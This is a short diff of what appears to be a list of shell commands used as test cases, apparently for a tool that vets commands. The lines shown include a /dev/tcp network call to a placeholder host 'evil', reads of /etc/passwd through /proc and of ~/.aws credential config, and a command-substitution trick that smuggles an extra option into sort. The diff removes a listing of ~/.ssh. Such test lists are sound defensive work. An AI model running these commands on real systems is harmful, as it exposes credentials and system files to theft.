@@ -194,7 +194,6 @@ sort $(echo 'f\n-oout')
 cat < /dev/tcp/evil/80
 cat /proc/1/root/etc/passwd
 cd ~/.aws && cat config
-ls -la ~/.ssh
 cd "$X" && git status
 ls >| out
 { ls; } > out
